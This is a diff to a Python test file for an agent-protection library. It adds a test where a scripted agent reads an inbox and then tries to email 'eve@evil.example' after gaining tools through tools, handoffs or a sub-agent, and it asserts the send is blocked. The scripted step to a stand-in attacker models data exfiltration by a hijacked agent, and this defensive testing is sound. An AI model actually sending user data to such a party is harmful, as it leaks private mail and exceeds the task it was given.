@@ -15,7 +15,7 @@ import example
 from remit_client import BadRequest, Remit, Unprotected, WrongClient
 from remit_client.openai_agents import definitions, protect
 
-from .spec import READ, TOKEN, URL, Adapter, Office, Run, Script, send
+from .spec import READ, TASK, TOKEN, URL, Adapter, Office, Run, Script, send
 
 set_tracing_disabled(True)
 
@@ -151,6 +151,39 @@ def test_an_agent_as_a_tool_is_decided_and_so_are_its_calls() -> None:
 
     asyncio.run(run())
     assert office.sent == ["ann@corp.example"]
+
+
+@pytest.mark.parametrize("by", ["tools", "handoffs", "agent as a tool"])
+def test_what_a_protected_agent_is_given_later_is_decided(by: str) -> None:
+    office = Office()
+    reads, sends = function_tool(office.read_inbox), function_tool(office.send_email)
+    first: list[Any] = [("transfer_to_mailer", {})] if by == "handoffs" else [("ask_mailer", {"input": "Go on"})]
+    model = Scripted([*([first] if by != "tools" else []), [READ], [send("eve@evil.example")], "Done.", "Done."])
+    mailer = Agent(name="mailer", model=model, tools=[reads, sends])
+
+    async def run() -> None:
+        async with Run([]).async_remit() as remit:
+            plain = Agent(name="reader", model=model, tools=[reads, sends, mailer.as_tool("ask_mailer", "Asks.")], handoffs=[mailer])
+            session = await remit.session(tools=definitions(plain))
+            await session.user(f"{TASK}. Ask the mailer: Go on")
+            base = protect(session, Agent(name="reader", model=model, tools=[reads]))
+            assert protect(session, base) is base
+            asked = protect(session, Agent(name="mailer", model=model, tools=[reads]))
+            more: dict[str, Any] = {"tools": [*base.tools, sends]}
+            if by == "handoffs":
+                more = {"handoffs": [mailer]}
+            if by == "agent as a tool":
+                more = {"tools": [asked.clone(tools=[*asked.tools, sends]).as_tool("ask_mailer", "Asks.")]}
+                with pytest.raises(Unprotected):
+                    protect(session, base.clone(**more))
+                more = {"tools": [protect(session, asked.clone(tools=[*asked.tools, sends])).as_tool("ask_mailer", "Asks.")]}
+            clone = base.clone(**more)
+            with pytest.raises(Unprotected, match="protect it again"):
+                await Runner.run(clone, "Go on")
+            await Runner.run(protect(session, clone), "Go on")
+
+    asyncio.run(run())
+    assert office.sent == [] and model.at >= 3
 
 
 def test_a_run_that_streams_is_decided() -> None:
